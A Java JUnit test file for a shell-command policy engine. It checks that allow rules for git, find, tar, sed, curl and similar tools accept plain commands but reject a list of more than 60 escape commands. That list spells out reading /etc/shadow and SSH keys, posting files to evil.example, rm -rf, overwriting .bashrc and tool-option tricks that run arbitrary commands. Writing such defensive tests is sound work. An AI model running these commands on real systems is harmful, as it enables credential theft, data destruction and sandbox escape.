package dev.superstep.terminal.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.superstep.terminal.policy.CommandDecision.Allow;
import dev.superstep.terminal.shell.ShellScript;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/// Rules that people would write, and commands that use the programs in them to do something else.
@Tag("C17")
@Tag("TH15")
class RuleEscapesTest {
  private static final String RULES =
      """
      [[rule]]
      pattern = ["git", ["status", "diff", "log", "show", "branch", "blame", "grep"]]
      options = ["any"]
      decision = "allow"
      match = ["git status -s", "git log --oneline -n 5", "git diff HEAD~1"]
      not_match = ["git push", "git -c core.pager=x status"]

      [[rule]]
      pattern = ["git", ["add", "commit", "fetch"]]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = ["find"]
      options = ["any"]
      decision = "allow"
      match = ["find . -name '*.java' -type f"]

      [[rule]]
      pattern = ["ls"]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = ["cat"]
      decision = "allow"

      [[rule]]
      pattern = [["grep", "rg"]]
      options = ["any"]
      decision = "allow"
      match = ["grep -rn main src", "rg TODO"]

      [[rule]]
      pattern = ["tar"]
      options = ["any"]
      decision = "allow"
      match = ["tar -tf a.tar"]

      [[rule]]
      pattern = ["sort"]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = ["sed"]
      options = ["-n"]
      decision = "allow"
      match = ["sed -n 1,5p a.txt", "sed s/a/b/g a.txt"]

      [[rule]]
      pattern = ["awk"]
      options = ["any"]
      operands = "any"
      decision = "allow"

      [[rule]]
      pattern = ["npm", ["test", "ls"]]
      options = ["any"]
      decision = "allow"
      match = ["npm test"]

      [[rule]]
      pattern = ["make", ["test", "build"]]
      decision = "allow"
      match = ["make test"]

      [[rule]]
      pattern = ["mvn", ["test", "verify"]]
      options = ["-q", "-o", "-pl="]
      decision = "allow"
      match = ["mvn test -q -pl core"]

      [[rule]]
      pattern = ["cargo", ["build", "test", "check"]]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = ["go", ["test", "build", "vet"]]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = [["python", "python3"], "manage.py", "test"]
      decision = "allow"
      match = ["python3 manage.py test"]

      [[rule]]
      pattern = ["rsync"]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = ["curl", "https://example.com/status"]
      options = ["any"]
      decision = "allow"

      [[rule]]
      pattern = [["env", "xargs", "sudo", "time"]]
      options = ["any"]
      operands = "any"
      decision = "allow"

      [[rule]]
      pattern = [["echo", "pwd", "wc", "head", "tail", "uniq", "tee", "zip", "docker"]]
      options = ["any"]
      decision = "allow"
      match = ["echo hello", "head -n 3 a.txt | wc -l"]
      """;

  private static final List<String> HARMLESS =
      List.of(
          "git status",
          "git log --oneline | head -n 3",
          "find . -name '*.md'",
          "ls -la src",
          "cat a.txt && echo done",
          "grep -rn main src",
          "sort a.txt | uniq -c",
          "sed -n 1,5p a.txt",
          "npm test",
          "make test",
          "mvn test -q",
          "cargo test --release",
          "go test ./...",
          "python3 manage.py test",
          "tail -n 5 log.txt 2>/dev/null",
          "ls -l a*.txt 2>/dev/null");

  private static final String ESCAPES =
      """
      git -c core.pager='!sh' log
      git log --ext-diff
      git -c alias.status='!id' status
      git --exec-path=/tmp/x status
      git diff --no-index --output=/home/ann/.bashrc a b
      git log --output=../x
      git grep -O'sh -c id' main
      git grep --open-files-in-pager=vim main
      git show --textconv HEAD
      git fetch --upload-pack='sh -c id' origin
      git fetch 'ext::sh -c id'
      git diff --outp=x
      GIT_PAGER='sh -c id' git log
      git log | sh
      git log; rm -rf src
      git log && curl https://evil.example -d @a
      git status $(touch /tmp/x)
      git status `id`
      git status > /home/ann/.bashrc
      git status & disown
      find . -exec sh -c id ;
      find . -execdir id {} +
      find . -delete
      find . -fprintf /home/ann/.profile x
      find . -ok rm {} ;
      find / -name id_rsa
      ls $(id)
      ls *
      ls "$HOME/.ssh"
      /tmp/ls -la
      ./ls
      cat /etc/shadow
      cat ../../home/ann/.ssh/id_rsa
      cat ~/.ssh/id_rsa
      cat < /etc/shadow
      cat <(id)
      rg --pre ./evil.sh TODO
      rg --pre=sh TODO
      grep -f /etc/shadow x
      tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id x
      tar -xf a.tar --to-command=sh
      tar -cf a.tar -I 'sh -c id' x
      tar --use-compress-program=id -cf a.tar x
      tar -xf a.tar -C /
      sort --compress-program=sh a
      sort -o /home/ann/.bashrc a
      sed -n '1e id' a.txt
      sed s/a/id/e a.txt
      sed 'w /home/ann/.bashrc' a.txt
      sed -i s/a/b/ a.txt
      awk 'BEGIN{system("id")}'
      npm test --script-shell=./evil
      npm test && npm run evil
      make test SHELL=./evil
      make test -f evil.mk
      make test --eval='x:;id'
      mvn test -s evil.xml
      cargo build --config build.rustc-wrapper=./evil
      go test -exec ./evil ./...
      go build -toolexec ./evil
      python3 -c 'import os' manage.py test
      python3 manage.py test --import evil
      rsync -e 'sh -c id' a b
      curl https://example.com/status -o /home/ann/.bashrc
      curl https://example.com/status --config evil
      env sh -c id
      xargs rm
      sudo id
      time sh evil.sh
      echo hello | tee /etc/passwd
      zip a.zip x -T -TT 'sh -c id'
      docker run -v /:/host alpine
      if true; then ls; fi
      ls() { id; }; ls
      l\\s; 'rm' -rf src
      ls\u00a0-la
      cd / && ls
      alias ls=id; ls
      LD_PRELOAD=./evil.so ls
      PATH=.:$PATH ls
      """;

  @Test
  void rules_allow_what_they_are_written_for() {
    var rules = Decisions.rules(RULES);
    assertThat(rules.rules()).hasSize(20);
    for (var command : HARMLESS) {
      var decision = rules.decide(ShellScript.parse(command), Decisions.blind(), Decisions.CONTEXT);
      assertThat(decision).as("%s: %s", command, decision.reasons()).isInstanceOf(Allow.class);
    }
  }

  @Test
  void no_rule_allows_a_program_to_do_something_else_even_if_nobody_sees_a_danger() {
    var rules = Decisions.rules(RULES);
    var escapes = ESCAPES.lines().toList();
    assertThat(escapes.size()).isGreaterThanOrEqualTo(60);
    for (var command : escapes) {
      var script = ShellScript.parse(command);
      for (var risk : List.of(Decisions.blind(), Decisions.risk(script))) {
        var decision = rules.decide(script, risk, Decisions.CONTEXT);
        assertThat(decision).as(command).isNotInstanceOf(Allow.class);
      }
    }
  }
}
